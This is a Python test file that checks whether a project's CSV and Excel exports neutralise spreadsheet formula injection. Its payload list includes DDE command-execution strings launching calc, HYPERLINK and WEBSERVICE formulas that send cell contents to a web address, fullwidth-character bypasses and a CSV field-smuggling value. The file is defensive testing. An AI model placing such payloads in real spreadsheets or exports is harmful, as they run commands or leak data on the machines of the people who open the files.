"""No table that leaves Goldthread runs when a spreadsheet program opens it."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from goldthread.base.govuk import pages

ROOT = Path(__file__).resolve().parents[2] / "goldthread"
LIVE = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.org?"&A1,"here")',
    '=WEBSERVICE("https://example.org")',
    "=IMPORTXML(A1)",
    "+1+1",
    "+cmd|'/c calc'!A1",
    "-1+1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    'a",=1+1,"',
    'DDE("cmd";"/c calc")',
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001


def exported(form):
    rows = [("plain", each) for each in LIVE]
    return pages.download(form, "Findings", ["A", "=B"], rows).content


def test_no_cell_of_a_csv_runs():
    rows = list(
        csv.reader(io.StringIO(exported("csv").decode("utf-8-sig"), newline=""))
    )

    assert len(rows) == len(LIVE) + 1
    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []


def test_no_cell_of_a_workbook_runs():
    sheet = load_workbook(io.BytesIO(exported("xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet["B2"].value == "=1+1"


@pytest.mark.parametrize("words", [r"csv\.writer", r"\bWorkbook\("])
def test_every_table_is_written_by_one_file(words):
    writers = {
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if "bench" not in path.parts and re.search(words, path.read_text("utf-8"))
    }

    assert writers - {"base/uploads/serving.py"} == {"base/tables.py"}
